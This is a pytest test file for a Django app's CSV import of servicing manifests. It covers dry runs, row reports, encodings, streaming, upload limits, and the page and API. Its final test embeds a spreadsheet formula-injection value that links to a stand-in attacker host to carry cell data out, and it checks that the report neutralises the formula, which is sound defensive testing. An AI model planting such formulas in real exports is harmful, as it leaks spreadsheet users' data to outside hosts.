"""CSV upload of manifests: dry run, per-row report, streaming, the page and the API."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from conftest import api_as
from fogcontrol.core.roles import Role
from fogcontrol.servicing import certification
from fogcontrol.servicing.imports import (
    COLUMNS,
    manifest_import_create,
    manifest_import_run,
    template_csv,
)
from fogcontrol.servicing.models import Manifest, ManifestImport
from fogcontrol.servicing.tests.helpers import days_ago


def csv_file(rows: list[dict], name="manifests.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[name for name, _, _ in COLUMNS])
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return SimpleUploadedFile(name, out.getvalue().encode("utf-8"), content_type="text/csv")


def row(device, number, **changes) -> dict:
    values = {
        "device": device.identifier,
        "manifest_number": number,
        "serviced_at": days_ago(2).strftime("%Y-%m-%d %H:%M"),
        "full_pumpout": "yes",
        "baffles_cleaned": "yes",
        "fog_depth_in": "4",
        "solids_depth_in": "3",
        "gallons_removed": "900",
        "driver": "Dana Driver",
        "certified_by_name": "Dana Driver",
        "certification_version": certification.CURRENT_VERSION,
    }
    values.update(changes)
    return values


def run(user, rows, *, dry_run=False) -> ManifestImport:
    record = manifest_import_create(acting_user=user, upload=csv_file(rows), dry_run=dry_run)
    return manifest_import_run(import_id=record.pk)


def report_rows(record) -> list[dict]:
    with record.report.open("rb") as handle:
        return list(csv.DictReader(io.TextIOWrapper(handle, encoding="utf-8")))


def test_a_csv_is_imported_row_by_row_with_a_report_of_every_row(town):
    hauler = town.users[Role.HAULER]
    rows = [
        row(town.own_device, "C-1"),
        row(town.other_device, "C-2"),
        row(town.own_device, "C-3", serviced_at="yesterday"),
        row(town.own_device, "C-4", baffles_cleaned="no", serviced_at=days_ago(1).strftime("%m/%d/%Y %H:%M")),
    ]
    record = run(hauler, rows)
    assert (record.status, record.rows_total, record.rows_accepted, record.rows_rejected) == ("done", 4, 2, 2)
    assert record.rows_flagged == 2  # no receiving facility; baffles not cleaned
    assert set(Manifest.objects.values_list("manifest_number", flat=True)) == {"C-1", "C-4"}
    assert Manifest.objects.filter(channel="csv", source_import=record).count() == 2
    problems = {(p.row_number, p.field) for p in record.problems.all()}
    assert problems == {(3, "device"), (4, "serviced_at")}
    report = report_rows(record)
    assert [r["outcome"] for r in report] == ["accepted", "rejected", "rejected", "accepted"]
    assert "'yesterday' is not a date and time" in report[2]["problems"]
    assert "baffles_not_cleaned" in report[3]["flags"]


def test_a_dry_run_checks_every_row_and_saves_nothing(town):
    rows = [
        row(town.own_device, "D-1"),
        row(town.own_device, "D-1"),
        row(town.own_device, "D-3", gallons_removed="-4"),
    ]
    record = run(town.users[Role.HAULER], rows, dry_run=True)
    assert Manifest.objects.count() == 0
    assert (record.rows_accepted, record.rows_rejected) == (1, 2)
    messages = [p.message for p in record.problems.all()]
    assert any("already submitted manifest D-1" in m for m in messages)
    assert any("Must not be negative" in m for m in messages)
    assert report_rows(record)[0]["outcome"] == "would be accepted"


def test_a_file_without_the_required_columns_is_refused_at_once(town):
    upload = SimpleUploadedFile("m.csv", b"device,when\nGI-1,2025-01-01\n", content_type="text/csv")
    with pytest.raises(ValidationError) as excinfo:
        manifest_import_create(acting_user=town.users[Role.HAULER], upload=upload, dry_run=False)
    assert "lacks the column(s): manifest_number, serviced_at" in excinfo.value.message_dict["file"][0]


def test_a_file_that_is_not_a_csv_is_refused(town):
    for upload, message in [
        (SimpleUploadedFile("m.xlsx", b"PK\x03\x04", content_type="application/zip"), "Upload a .csv file"),
        # A UTF-16 byte-order mark no longer makes a file "not text" (UTF-16 is read, finding 10 of
        # issue 15); an image saved as .csv still is.
        (
            SimpleUploadedFile(
                "m.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", content_type="text/csv"
            ),
            "The file is not text",
        ),
    ]:
        with pytest.raises(ValidationError) as excinfo:
            manifest_import_create(acting_user=town.users[Role.HAULER], upload=upload, dry_run=False)
        assert message in excinfo.value.message_dict["file"][0]


def test_a_file_above_the_upload_limit_is_refused(town, settings):
    settings.FOGCONTROL_MAX_UPLOAD_BYTES = 100
    with pytest.raises(ValidationError) as excinfo:
        manifest_import_create(
            acting_user=town.users[Role.HAULER],
            upload=csv_file([row(town.own_device, "X")] * 3),
            dry_run=False,
        )
    assert "larger than" in excinfo.value.message_dict["file"][0]


def test_a_row_with_stray_cells_is_rejected_not_guessed(town):
    upload = csv_file([row(town.own_device, "S-1")])
    content = upload.read().decode().rstrip("\r\n") + ",extra,cells\r\n"
    record = manifest_import_create(
        acting_user=town.users[Role.HAULER],
        upload=SimpleUploadedFile("m.csv", content.encode()),
        dry_run=False,
    )
    record = manifest_import_run(import_id=record.pk)
    assert record.rows_rejected == 1
    assert "more cells than the header" in record.problems.get().message


def test_running_an_import_twice_does_not_submit_twice(town):
    record = run(town.users[Role.HAULER], [row(town.own_device, "R-1")])
    manifest_import_run(import_id=record.pk)
    assert Manifest.objects.count() == 1


def test_the_import_reads_the_file_as_a_stream(town, monkeypatch):
    """Rows are submitted while the file is still being read: it is never read whole.

    Rows are written a chunk per transaction; with chunks of two, row 3 is read only after
    rows 1 and 2 were submitted.
    """
    import fogcontrol.servicing.imports as imports_module

    monkeypatch.setattr(imports_module, "ROWS_PER_TRANSACTION", 2)

    seen_when_submitting = []
    real_ingest = imports_module.manifests_ingest  # the set-based path every chunk goes through

    def spy(**kwargs):
        seen_when_submitting.extend(row.submission.manifest_number for row in kwargs["rows"])
        return real_ingest(**kwargs)

    monkeypatch.setattr(imports_module, "manifests_ingest", spy)
    reads = []
    real_reader = imports_module.csv.DictReader

    class CountingReader(real_reader):
        def __next__(self):
            value = super().__next__()
            reads.append((value["manifest_number"], list(seen_when_submitting)))
            return value

    monkeypatch.setattr(imports_module.csv, "DictReader", CountingReader)
    run(
        town.users[Role.HAULER],
        [
            row(town.own_device, f"S-{i}", serviced_at=days_ago(90 - i).strftime("%Y-%m-%d %H:%M"))
            for i in range(5)
        ],
    )
    # When row 3 was read, rows 1 and 2 had already been submitted.
    assert reads[2] == ("S-2", ["S-0", "S-1"])


def test_the_upload_page_runs_an_import_and_shows_the_report(town, django_capture_on_commit_callbacks):
    client = Client()
    client.force_login(town.users[Role.HAULER])
    assert b"certification_version" in client.get("/servicing/imports/").content
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/servicing/imports/",
            {"file": csv_file([row(town.own_device, "U-1"), row(town.other_device, "U-2")]), "dry_run": ""},
        )
    record = ManifestImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/servicing/imports/{record.pk}/"
    page = client.get(response["Location"]).content.decode()
    assert "Rejected rows" in page and "among the devices you may report on" in page
    report = client.get(f"/servicing/imports/{record.pk}/report.csv")
    assert report["Content-Type"] == "text/csv"
    assert Manifest.objects.get().manifest_number == "U-1"


def test_the_upload_page_shows_a_refused_file_beside_the_field(town):
    client = Client()
    client.force_login(town.users[Role.HAULER])
    response = client.post("/servicing/imports/", {"file": SimpleUploadedFile("m.txt", b"hello")})
    assert response.status_code == 400  # refused, as every page refuses input (tests/test_hostile_uploads.py)
    assert "Upload a .csv file" in response.content.decode()


def test_the_api_accepts_an_upload_with_202_and_reports_problems(town, django_capture_on_commit_callbacks):
    client = api_as(town.users[Role.HAULER])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/manifest-imports/",
            {"file": csv_file([row(town.own_device, "A-1", fog_depth_in="x")]), "dry_run": "true"},
            format="multipart",
        )
    assert response.status_code == 202
    record_id = response.json()["id"]
    status = client.get(f"/api/v1/manifest-imports/{record_id}/").json()
    assert status["status"] == "done" and status["rows_rejected"] == 1
    problems = client.get(f"/api/v1/manifest-imports/{record_id}/problems/").json()["results"]
    assert problems == [
        {
            "row_number": 2,
            "manifest_number": "A-1",
            "field": "fog_depth_in",
            "message": "'x' is not a number; write it like 3.5.",
        }
    ]
    assert client.get(f"/api/v1/manifest-imports/{record_id}/report/").status_code == 200
    assert api_as(town.users[Role.FSE]).get(f"/api/v1/manifest-imports/{record_id}/").status_code == 404


def test_the_template_names_every_column():
    header = template_csv().splitlines()[0].split(",")
    assert header == [name for name, _, _ in COLUMNS]


# --- issue 15, finding 10: the licence import's reader; one bad row; nothing left on disk -------


def _encoded(rows: list[dict], encoding: str, delimiter: str = ",") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[name for name, _, _ in COLUMNS], delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile("manifests.csv", out.getvalue().encode(encoding), content_type="text/csv")


@pytest.mark.parametrize(
    "encoding, delimiter", [("utf-16", ","), ("latin-1", ","), ("cp1252", ";"), ("utf-8-sig", ",")]
)
def test_utf16_and_latin1_files_are_read_as_the_licence_import_reads_them(town, encoding, delimiter):
    rows = [row(town.own_device, "E-1", driver="José Peña", certified_by_name="José Peña")]
    record = manifest_import_create(
        acting_user=town.users[Role.HAULER], upload=_encoded(rows, encoding, delimiter), dry_run=False
    )
    record = manifest_import_run(import_id=record.pk)
    assert (record.status, record.rows_accepted, record.rows_rejected) == ("done", 1, 0)
    assert Manifest.objects.get().driver_name == "José Peña"


def test_a_cell_over_the_csv_field_limit_rejects_that_row_only(town):
    limit = csv.field_size_limit()
    rows = [
        row(town.own_device, "F-1", serviced_at=days_ago(3).strftime("%Y-%m-%d %H:%M")),
        row(town.own_device, "F-2", condition_notes="x" * (limit + 1)),
        row(town.own_device, "F-3", serviced_at=days_ago(1).strftime("%Y-%m-%d %H:%M")),
    ]
    record = manifest_import_create(acting_user=town.users[Role.HAULER], upload=csv_file(rows), dry_run=False)
    record = manifest_import_run(import_id=record.pk)
    assert (record.status, record.rows_total, record.rows_accepted, record.rows_rejected) == ("done", 3, 2, 1)
    assert set(Manifest.objects.values_list("manifest_number", flat=True)) == {"F-1", "F-3"}
    problem = record.problems.get()
    assert problem.row_number == 3
    assert f"longer than {limit:,} characters" in problem.message
    assert [r["outcome"] for r in report_rows(record)] == ["accepted", "rejected", "accepted"]


def test_a_binary_file_named_csv_is_refused_as_not_text(town):
    from fogcontrol.testing.hostile_files import garbage

    upload = SimpleUploadedFile("m.csv", b"device," + garbage(), content_type="text/csv")
    with pytest.raises(ValidationError) as excinfo:
        manifest_import_create(acting_user=town.users[Role.HAULER], upload=upload, dry_run=False)
    assert "The file is not text" in excinfo.value.message_dict["file"][0]


def _kept_files() -> set:
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.MEDIA_ROOT) / "servicing" / "imports"
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def test_an_upload_that_fails_after_its_file_was_stored_leaves_no_file(town, monkeypatch):
    from django.db import OperationalError

    import fogcontrol.servicing.imports as imports_module

    def locked(**kwargs):
        raise OperationalError("database is locked")

    monkeypatch.setattr(imports_module, "audit_record", locked)
    before = _kept_files()
    with pytest.raises(OperationalError):
        manifest_import_create(
            acting_user=town.users[Role.HAULER], upload=csv_file([row(town.own_device, "L-1")]), dry_run=False
        )
    assert _kept_files() == before
    assert not ManifestImport.objects.exists()


def test_the_upload_reads_and_stores_the_file_outside_any_transaction(town, monkeypatch):
    """Never hold SQLite's one write lock across file I/O (issue 15, finding 1)."""
    from django.core.files.storage import FileSystemStorage
    from django.db import connection

    import fogcontrol.registry.imports.reading as reading

    baseline = len(connection.savepoint_ids)
    seen = []
    real_detect, real_save = reading.detect_encoding, FileSystemStorage._save

    def detect(binary):
        seen.append(("reading", len(connection.savepoint_ids) - baseline))
        return real_detect(binary)

    def save(self, name, content):
        seen.append(("storing", len(connection.savepoint_ids) - baseline))
        return real_save(self, name, content)

    monkeypatch.setattr(reading, "detect_encoding", detect)
    monkeypatch.setattr(FileSystemStorage, "_save", save)
    manifest_import_create(
        acting_user=town.users[Role.HAULER], upload=csv_file([row(town.own_device, "T-1")]), dry_run=False
    )
    assert seen and all(depth == 0 for _what, depth in seen), seen
    assert {what for what, _depth in seen} == {"reading", "storing"}


def test_a_formula_in_a_manifest_row_comes_out_neutralised_in_the_import_report(town):
    """Issue 15, finding 7: the import report never hands a spreadsheet a formula to run."""
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    record = run(town.users[Role.HAULER], [row(town.own_device, formula), row(town.own_device, "-2+3")])
    report = report_rows(record)
    assert [r["manifest_number"] for r in report] == ["'" + formula, "'-2+3"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
